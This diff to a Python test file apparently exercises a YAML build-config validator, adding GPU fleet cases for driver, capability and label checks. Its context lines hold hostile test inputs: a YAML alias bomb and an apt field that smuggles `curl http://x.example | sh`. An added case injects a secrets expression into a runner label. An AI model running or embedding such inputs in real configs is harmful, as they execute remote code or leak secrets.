@@ -66,6 +66,11 @@ _BOMB = "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 9 if p else ['lol'] * 9)}]\n
                 for p, c in zip(["", *"abcdefgh"], "abcdefghi", strict=True))
 _INC = '    - {torch: "2.7.1", cuda: "12.6", python: "3.11", os: debian12, flavor: runtime, source: wheels'
 
+def _pool(name: str, model: str, cc: str, driver: str, runs_on: str = "[self-hosted, gpu]") -> str:
+    return (f"fleet:\n  {name}:\n    gpu: {{model: {model}, capability: \"{cc}\"}}\n    drivers: [\"{driver}\"]\n"
+            f"    runs_on: {runs_on}\n")
+
+
 CASES = [
     # --- injection: everything that reaches a Dockerfile, a shell or a tag has a grammar
     Case("apt-shell-injection", swap(12, '  apt_packages: ["vim; curl http://x.example | sh #"]'), 12,
@@ -166,4 +171,27 @@ CASES = [
     Case("two-documents", BASE + "---\nregistry: x\n", END, ("more than one YAML document",)),
     Case("bad-timestamp", add("extra_ca: 2026-13-45\n"), END, ("cannot read '2026-13-45' as timestamp",)),
     Case("repository-too-long", swap(2, "repository: " + "/".join(["a" * 60] * 5)), 2, ("longer than 255",)),
+    # --- the fleet: a pool's GPU or driver that a target cannot run is refused at plan time, at the pool
+    Case("fleet-cu126-on-sm120", add(_pool("rtx5090", "RTX 5090", "12.0", "575.64.03")), END + 2,
+         ("fleet.rtx5090.gpu", "RTX 5090 (sm_120) cannot run torch 2.7.1+cu126", "no kernel image is available", "cu128",
+          "exclude")),
+    Case("fleet-driver-too-old", add(_pool("h200", "H200", "9.0", "470.57.02")), END + 3,
+         ("fleet.h200.drivers.0", "driver 470.57.02 cannot run CUDA 12.6", "needs >= 525.60.13"), lines=2),
+    Case("fleet-unknown-gpu", add(_pool("h300", "H300", "9.0", "580.159.04")), END + 2,
+         ("fleet.h300.gpu.model", "'H300' is not in the compat data", "perhaps you meant 'H200'")),
+    Case("fleet-capability-not-the-models", add(_pool("a100", "A100", "9.0", "580.159.04")), END + 2,
+         ("fleet.a100.gpu.capability", "A100 has compute capability 8.0 in the compat data")),
+    Case("fleet-runner-label-expression", add(_pool("h200", "H200", "9.0", "580.159.04",
+                                                    runs_on='["gpu", "${{ secrets.TOKEN }}"]')), END + 4,
+         ("fleet.h200.runs_on.1", "is not a runner label")),
+    Case("fleet-pool-name", add(_pool("H200_pool", "H200", "9.0", "580.159.04")), END + 1, ("is not a pool name",)),
+    Case("fleet-driver-grammar", add(_pool("h200", "H200", "9.0", "latest")), END + 3,
+         ("fleet.h200.drivers.0", "is not an NVIDIA driver version")),
+    Case("fleet-gpus-zero", add(_pool("h200", "H200", "9.0", "580.159.04") + "    gpus: 0\n"), END + 5,
+         ("fleet.h200.gpus", "greater than or equal to 1")),
+    Case("fleet-key-typo", add(_pool("h200", "H200", "9.0", "580.159.04") + "    gpu_count: 2\n"), END + 5,
+         ("unknown key 'gpu_count'", "allowed: gpu, drivers, runs_on, gpus, exclude")),
+    Case("fleet-exclude-nothing", add(_pool("h200", "H200", "9.0", "580.159.04") + '    exclude: ["cuda=11.8"]\n'),
+         END + 5, ("fleet.h200.exclude.0", "excludes no target")),
 ]
+
